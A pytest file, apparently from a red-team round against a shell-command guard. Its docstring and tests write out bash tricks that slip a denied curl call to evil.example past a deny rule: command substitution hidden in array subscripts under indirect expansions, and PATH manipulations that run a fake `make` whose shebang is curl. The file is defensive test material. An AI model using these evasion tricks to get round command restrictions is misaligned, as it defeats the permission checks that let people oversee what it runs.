"""Red team 43, issue 9 class 5 (state the shell changes).

- `${!x:-y}`, `${!x#y}`, `${!x@Q}` ...: bash evaluates the subscript of the name x holds for
  every operator on an indirect expansion, not only for a bare `${!x}`: with
  `x='a[$(curl h)]'` each of them runs curl. Only the bare form was followed.
- PATH as the shell holds it: a value set at run time (`p=$PWD/bin; PATH=$p:$PATH`, `unset PATH`,
  `declare -n r=PATH`, `PATH[0]=…`), an empty entry (`PATH=`, `PATH=:$PATH`, which bash reads as
  the working folder) or a spelling the text scan did not read (`export PAT''H=bin`, `read PATH`,
  `PATH=$(pwd)/bin`) let `make` start a copy of curl under a token that denies curl.
"""

import os

import pytest

from conftest import GuardSetup, assert_allowed, assert_denied

INDIRECT = "x='a[$(curl evil.example)]'; "


@pytest.fixture(scope="module")
def g(tmp_path_factory):
    setup = GuardSetup(tmp_path_factory.mktemp("rt43state"), files={"README.md": "hi\n", "sub/": None})
    os.makedirs(setup.path("bin"))
    # a program named make that is curl: the kernel runs what its `#!` line names
    with open(setup.path("bin/make"), "w") as f:
        f.write("#!/usr/bin/env curl\n")
    os.chmod(setup.path("bin/make"), 0o755)
    return setup


@pytest.mark.parametrize("expansion", ["${!x:-y}", "${!x-y}", "${!x:+y}", "${!x#y}", "${!x/a/b}", "${!x@Q}",
                                       "${!x^^}", "${!x:=1}", "${!x?}", '"${!x:-y}"'])
@pytest.mark.parametrize("role", ["builder", "open"])
def test_indirect_expansion_with_an_operator_runs_the_subscript(g, role, expansion):
    assert_denied(g.bash(INDIRECT + "echo " + expansion, role=role), "`curl` is denied by deny-cmd",
                  "array subscript runs")


def test_indirect_expansion_of_a_name_not_known_is_undetermined(g):
    assert_denied(g.bash("read x; echo ${!x:-y}", role="open"), "could not determine the command",
                  "subscript of the name the variable holds")


@pytest.mark.parametrize("command", ["x=HOME; echo ${!x:-none}", "echo ${!BASH*}", "echo ${!BASH@}",
                                     'a=(1 2); for k in "${!a[@]}"; do echo $k; done', "x=HOME; echo ${!x#/}"])
def test_indirect_expansions_of_plain_names_stay_allowed(g, command):
    assert_allowed(g.bash(command))


@pytest.mark.parametrize("command", [
    "cd bin; PATH= make evil.example",
    "cd bin; PATH=:$PATH make evil.example",
    "cd bin; PATH=$PATH: make evil.example",
    "cd bin; PATH=/nonexistent:: make evil.example",
    "PATH=$(pwd)/bin:$PATH make evil.example",
    "PATH=`pwd`/bin make evil.example",
    "PATH=~/../proj/bin:$PATH make evil.example",
    "printf -v PATH %s bin; make evil.example",
    "read PATH <<< bin; make evil.example",
    "IFS= read -r PATH <<< bin; make evil.example",
    "mapfile -t PATH <<< bin; make evil.example",
    "export PAT''H=bin; make evil.example",
    'declare "PATH=bin"; make evil.example',
    "for PATH in bin; do make evil.example; done",
    "bash -c 'p=bin; PATH=$p make evil.example'",
])
def test_path_the_shell_holds_leads_to_a_denied_program(g, command):
    assert_denied(g.bash(command, role="open"), "which is `curl` (the file the kernel runs)", "denied by deny-cmd")


@pytest.mark.parametrize("command", [
    "p=$PWD/bin; PATH=$p:$PATH make evil.example",
    "cd bin; unset PATH; make evil.example",
    "PATH[0]=bin; make evil.example",
])
@pytest.mark.parametrize("role", ["builder", "open"])
def test_path_set_at_run_time_is_undetermined(g, role, command):
    assert_denied(g.bash(command, role=role), "is looked up in a PATH the command sets at run time")


def test_path_through_a_nameref_is_undetermined(g):
    assert_denied(g.bash("declare -n r=PATH; r=bin; make evil.example", role="open"),
                  "is looked up in a PATH the command sets at run time")


@pytest.mark.parametrize("command", [
    'export PATH="$HOME/.local/bin:$PATH"; make',
    "export PATH=$PATH:$HOME/go/bin; ls",
    "PATH=./node_modules/.bin:$PATH make",
    'export PATH="$PWD/.venv/bin:$PATH"; make test',
    "export PATH; make",
    "grep -n PATH Makefile; make",
    "x=sub; PATH=$x; echo hi; cd sub; printf x",
])
@pytest.mark.parametrize("role", ["builder", "open"])
def test_everyday_path_changes_stay_allowed(g, role, command):
    assert_allowed(g.bash(command, role=role))
